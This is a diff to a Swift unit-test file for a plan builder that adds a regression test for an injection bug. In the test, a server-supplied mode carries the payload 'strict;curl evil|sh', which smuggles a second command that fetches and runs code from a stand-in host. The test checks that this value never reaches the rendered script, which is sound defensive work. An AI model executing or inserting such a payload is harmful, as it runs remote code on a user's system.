@@ -69,6 +69,15 @@ struct PlanBuilderTests {
         #expect(without.notes.first?.contains("2 entities follow node-a") == true)
     }
 
+    /// Review of issue 10: a mode "kept" from a server row went unquoted into the script and back to the server.
+    @Test func aKeptModeIsTheStoredOneNeverTheServersText() throws {
+        let odd = Self.inputs([Self.row("x", "node-d", AssignmentMode("strict;curl evil|sh"))],
+                              instances: [inst("x", node: "node-d", mode: .strict, explicit: true)])
+        let plan = try PlanBuilder.evacuate("node-d", to: .node("node-b"), mode: nil, includeDefault: false, inputs: odd, stamp: Self.stamp)
+        #expect(plan.items.map(\.to) == [.explicit(node: "node-b", mode: .strict)])
+        #expect(!PlanScript.render(plan, connection: []).contains("curl"))
+    }
+
     @Test func aModeGivenOverridesEveryItemsMode() throws {
         let plan = try PlanBuilder.evacuate("node-d", to: .node("node-b"), mode: .preferred, includeDefault: false,
                                             inputs: Self.deadNode, stamp: Self.stamp)
